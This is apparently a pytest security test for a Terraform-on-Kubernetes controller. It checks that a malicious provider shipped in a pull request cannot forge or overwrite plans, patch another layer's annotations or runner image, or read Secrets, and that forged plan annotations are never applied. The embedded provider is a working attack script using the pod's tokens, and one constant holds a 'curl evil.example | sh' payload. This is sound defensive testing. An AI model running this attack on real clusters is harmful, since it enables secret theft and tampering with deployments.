"""Issue 24, finding 1 end to end, as far as it can be mounted before fork pull requests are gated (P2): tenant
code in a pull request's plan run tries to turn its own plan into the base layer's apply artifact, and a layer
whose `plan-run` / `plan-sum` annotations are forged anyway is never applied.

The tenant code is a Terraform provider shipped in the pull request (`terraform.d/plugins/`, written in Python
with PyPI's `tf`): Terraform starts it during `plan`, inside the runner pod, with everything the pod has. It uses
the pod's own tokens, as the review's attack did: (a) writes a crafted plan as the next attempt of its run, and as
an attempt of the base layer's plan run, (b) replaces its own plan once the runner has stored it, and patches the
base layer's `runner.burrito-py.io/plan-*` annotations (and its own spec) with the pod's ServiceAccount token,
(c) reads the repository's Secret. Each step's answer is written to a report; each must be refused. Then the
review's step (b) is forged around the API (the harness's admission policy lets the controllers' identity write
those annotations, and the test client is that identity): the layer's annotations name the pull request's plan
with the sum the controllers recorded for it, another layer's plan, and a non-last attempt, each approved.
Nothing is applied; each forgery is refused with a condition and a Warning event naming the mismatch.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from burrito_py.api import annotations as ann
from tests.support.emulator import wait_for
from tests.support.git_repos import TestRepo, run_git
from tests.support.real_cluster import RealCluster

from .test_pull_requests import pr_runs, pull_request_world

PROVIDER_DIR = "layers/app/terraform.d/plugins/example.com/tenant/evil/1.0.0/linux_amd64"
CRAFTED = b"a crafted plan: PK\x03\x04 local-exec curl evil.example | sh"
HOSTILE_CODE = """
terraform {
  backend "local" {}
  required_providers {
    evil = { source = "example.com/tenant/evil", version = "1.0.0" }
  }
}

provider "evil" {}

resource "terraform_data" "this" {
  input = "a harmless-looking change"
}
"""


def hostile_provider(report: Path) -> str:
    """The provider: at start (during `plan`, in the runner pod), the attack, once per attempt; its answers go
    to `report` (JSON lines). A background process (it outlives the plan, as tenant code can) replaces the
    attempt's plan once the runner has stored it."""
    return f'''#!{sys.executable}
import json, os, subprocess, sys, tempfile, time
tempfile.tempdir = "/tmp"  # its gRPC socket: a local runner pod's TMPDIR is too deep for a unix socket path

REPORT = {str(report)!r}
CRAFTED = {CRAFTED!r}


def note(step, status):
    with open(REPORT, "a") as handle:
        handle.write(json.dumps({{"step": step, "status": status, "run": os.environ.get("BURRITO_RUNNER_RUN"),
                                  "attempt": os.environ.get("BURRITO_RUNNER_ATTEMPT")}}) + "\\n")


def attack():
    import httpx, yaml
    env = os.environ
    root = env.get("BURRITO_LOCAL_ROOT", "")
    token = open(root + "/var/run/secrets/burrito-py/token").read().strip()
    store = env["BURRITO_DATASTORE_URL"].rstrip("/") + "/api/v1"
    ns, layer, run, attempt = (env["BURRITO_RUNNER_LAYER_NAMESPACE"], env["BURRITO_RUNNER_LAYER_NAME"],
                               env["BURRITO_RUNNER_RUN"], int(env["BURRITO_RUNNER_ATTEMPT"]))
    marker = f"{{REPORT}}.{{run}}.{{attempt}}"
    if os.path.exists(marker):
        return  # terraform starts a provider more than once per plan: attack once
    open(marker, "w").close()
    bearer = {{"Authorization": f"Bearer {{token}}"}}
    base = f"{{store}}/layers/{{ns}}/{{layer}}/runs"
    # (a) a crafted plan as the next attempt of this run (the review wrote "attempt 7"), and as the base layer's.
    note("write-next-attempt", httpx.put(f"{{base}}/{{run}}/attempts/{{attempt + 1}}/plan?format=bin",
                                         content=CRAFTED, headers=bearer).status_code)
    note("write-next-attempt-json", httpx.put(f"{{base}}/{{run}}/attempts/{{attempt + 1}}/plan?format=json",
                                              content=b'{{"resource_changes": []}}', headers=bearer).status_code)
    base_run = env.get("ATTACK_BASE_RUN", "")
    note("write-base-run", httpx.put(f"{{base}}/{{base_run}}/attempts/1/plan?format=bin", content=CRAFTED,
                                     headers=bearer).status_code)
    note("read-base-inputs", httpx.get(f"{{base}}/{{base_run}}/inputs", headers=bearer).status_code)
    # (d) the layer's own plan and log (issue 24, P2: a pull request's runner reads only its own run's artifacts).
    note("read-base-plan", httpx.get(f"{{base}}/{{base_run}}/attempts/1/plan?format=json",
                                     headers=bearer).status_code)
    note("read-base-log", httpx.get(f"{{base}}/{{base_run}}/attempts/1/logs", headers=bearer).status_code)
    # (b) the pod's ServiceAccount token (the runner's kubeconfig): the base layer's annotations, its spec.
    config = yaml.safe_load(open(env["KUBECONFIG"]))
    server = config["clusters"][0]["cluster"]["server"]
    user = config["users"][0]["user"]
    api_token = user.get("token") or open(user["tokenFile"]).read().strip()
    api = httpx.Client(base_url=server, headers={{"Authorization": f"Bearer {{api_token}}"}}, verify=False)
    layers = f"/apis/terraform.burrito-py.io/v1alpha1/namespaces/{{ns}}/terraformlayers"
    merge = {{"Content-Type": "application/merge-patch+json"}}
    forged = {{"runner.burrito-py.io/plan-run": f"{{run}}/{{attempt + 1}}",
               "runner.burrito-py.io/plan-sum": "sha256:" + "0" * 64,
               "runner.burrito-py.io/plan-summary": "No changes."}}
    note("patch-base-layer-annotations", api.patch(f"{{layers}}/{{layer}}",
                                                   json={{"metadata": {{"annotations": forged}}}},
                                                   headers=merge).status_code)
    note("patch-base-layer-spec", api.patch(f"{{layers}}/{{layer}}", json={{"spec": {{"overrideRunnerSpec": {{
        "image": "evil.example/runner"}}}}}}, headers=merge).status_code)
    # (c) the repository's Secret (git token, webhook secret) and every Secret of the namespace.
    note("read-secret", api.get(f"/api/v1/namespaces/{{ns}}/secrets/infra-git").status_code)
    note("list-secrets", api.get(f"/api/v1/namespaces/{{ns}}/secrets").status_code)
    # (b) once the runner stored this attempt's plan, replace it (the review's harmless plan.json, a crafted bin).
    later = (
        "import httpx, sys, time\\n"
        "url, token, report, run, attempt = sys.argv[1:6]\\n"
        "bearer = {{'Authorization': 'Bearer ' + token}}\\n"
        "deadline = time.time() + 120\\n"
        "while time.time() < deadline and httpx.head(url, headers=bearer).status_code != 200:\\n"
        "    time.sleep(0.2)\\n"
        "status = httpx.put(url, content=" + repr(CRAFTED) + ", headers=bearer).status_code\\n"
        "open(report, 'a').write('{{\\"step\\": \\"overwrite-own-plan\\", \\"status\\": %d, \\"run\\": \\"%s\\", '\\n"
        "                        '\\"attempt\\": \\"%s\\"}}\\\\n' % (status, run, attempt))\\n"
    )
    subprocess.Popen([sys.executable, "-c", later, f"{{base}}/{{run}}/attempts/{{attempt}}/plan?format=bin", token,
                      REPORT, run, str(attempt)], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


try:
    attack()
except Exception as exc:  # the report says what broke; the plan goes on, as a careful attacker's would
    note("attack-error", repr(exc))

from tf import schema
from tf.provider import Provider
from tf.runner import run_provider


class Evil(Provider):
    def full_name(self): return "example.com/tenant/evil"
    def get_model_prefix(self): return "evil_"
    def get_provider_schema(self, diags): return schema.Schema(attributes=[])
    def validate_config(self, diags, config): pass
    def configure_provider(self, diags, config): pass
    def get_data_sources(self): return []
    def get_resources(self): return []


run_provider(Evil())
'''


def report_of(path: Path) -> dict[str, int]:
    if not path.exists():
        return {}
    lines = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    errors = [line for line in lines if line["step"] == "attack-error"]
    assert not errors, errors
    return {line["step"]: line["status"] for line in lines}


def condition(layer: dict[str, Any], type_: str) -> dict[str, Any]:
    return next((c for c in (layer.get("status") or {}).get("conditions") or () if c["type"] == type_), {})


def test_a_pull_requests_plan_run_cannot_make_its_plan_the_base_layers_artifact(tmp_path: Path, repo: TestRepo,
                                                                               real_cluster: RealCluster) -> None:
    report = tmp_path / "attack.jsonl"
    with pull_request_world(tmp_path, repo, "github", real_cluster) as world:
        platform = world.platform
        base = platform.annotations("app")
        base_run = base[ann.PLAN_RUN].split("/")[0]
        platform.custom.patch_namespaced_custom_object(  # tells the tenant code which run to aim at
            ann.GROUP, ann.VERSION, platform.namespace,
                "terraformrepositories", "infra", {"spec": {"overrideRunnerSpec": {
                "env": [{"name": "ATTACK_BASE_RUN", "value": base_run}]}}})
        provider = f"{PROVIDER_DIR}/terraform-provider-evil_v1.0.0"
        world.repo.commit({"layers/app/main.tf": HOSTILE_CODE, provider: hostile_provider(report)},
                          "a harmless-looking change")
        (world.repo.path / provider).chmod(0o755)
        world.repo.git("add", "--", provider)
        head = world.repo.commit({}, "make the provider executable")
        world.repo.push(world.bare.as_uri())
        run_git(world.bare, "update-ref", "refs/pull/1/head", head)
        world.hook("opened", 1, head)

        def planned() -> dict[str, Any] | None:
            runs = [r for r in pr_runs(platform) if (r.get("status") or {}).get("state") in ("Succeeded", "Failed")]
            return runs[0] if runs else None

        pr_run = wait_for(planned, 180, 0.5, "the pull request's plan run")
        assert pr_run["status"]["state"] == "Succeeded", pr_run["status"]
        steps = wait_for(lambda: (found := report_of(report)) and "overwrite-own-plan" in found and found, 150, 0.5,
                         "the tenant code's report")
        assert steps == {
            "write-next-attempt": 403,          # (a) only the attempt its pod is recorded for
            "write-next-attempt-json": 403,
            "write-base-run": 403,              # (a) only its own run
            "read-base-inputs": 403,            # another run's inputs (Secret values): its own run's only
            "read-base-plan": 403,              # (d) the layer's plan and log: its own run's only (P2)
            "read-base-log": 403,
            "patch-base-layer-annotations": 403,  # (b) the runner's Role: no write at all
            "patch-base-layer-spec": 403,
            "read-secret": 403,                 # (c) no Secret
            "list-secrets": 403,
            "overwrite-own-plan": 409,          # its stored plan is written once
        }, steps
        attempt = pr_run["status"]["attempts"][-1]
        assert attempt["number"] == 1 and attempt["planSum"].startswith("sha256:")

        # The base layer never heard of the pull request: its plan is its own, nothing was applied.
        assert platform.annotations("app")[ann.PLAN_RUN] == base[ann.PLAN_RUN]
        assert platform.annotations("app")[ann.PLAN_SUM] == base[ann.PLAN_SUM]
        assert not [r for r in platform.runs("app") if r["spec"]["action"] == "apply"]

        # The review's step (b), forged around the API, each time with an approval of the forged sum.
        other = platform.annotations("other")
        forgeries = [
            (f"{pr_run['metadata']['name']}/1", attempt["planSum"], "is not owned by this layer"),
            (other[ann.PLAN_RUN], other[ann.PLAN_SUM], "is not owned by this layer"),
            (f"{base_run}/7", base[ann.PLAN_SUM], "attempt 7 is not the last successful attempt"),
        ]
        for plan_run, plan_sum, why in forgeries:
            platform.custom.patch_namespaced_custom_object(
                ann.GROUP, ann.VERSION, platform.namespace, "terraformlayers", "app", {"metadata": {"annotations": {
                    ann.PLAN_RUN: plan_run, ann.PLAN_SUM: plan_sum, ann.PLAN_SUMMARY: "Plan: 1 to add",
                    ann.APPROVE_PLAN: plan_sum}}})

            def refused(plan_run: str = plan_run, why: str = why) -> str | None:
                events = platform.core.list_namespaced_event(platform.namespace).items
                found = [e.message for e in events
                         if e.involved_object.name == "app" and e.reason == "ArtifactRefused" and plan_run in e.message]
                return found[0] if found and why in found[0] else None

            message = wait_for(refused, 60, 0.3, f"the refusal of {plan_run}")
            assert "is never applied" in message

            # The layer plans again (its own code, at its branch) and waits for an approval of that plan.
            def replanned(plan_run: str = plan_run) -> dict[str, Any] | None:
                layer = platform.layer("app")
                ok = ((layer.get("status") or {}).get("state") == "ApplyNeeded"
                      and layer["metadata"]["annotations"][ann.PLAN_RUN] != plan_run
                      and condition(layer, "IsPlanArtifactValid").get("status") == "True")
                return layer if ok else None

            layer = wait_for(replanned, 120, 0.3, f"a plan of the layer's own after {plan_run}")
            assert condition(layer, "IsPlanApproved")["reason"] == "ApprovalMismatch"  # the forged sum approves nothing
        assert not [r for r in platform.runs("app") if r["spec"]["action"] == "apply"]
        assert not platform.state_file("app").exists()  # terraform never applied anything to the base layer
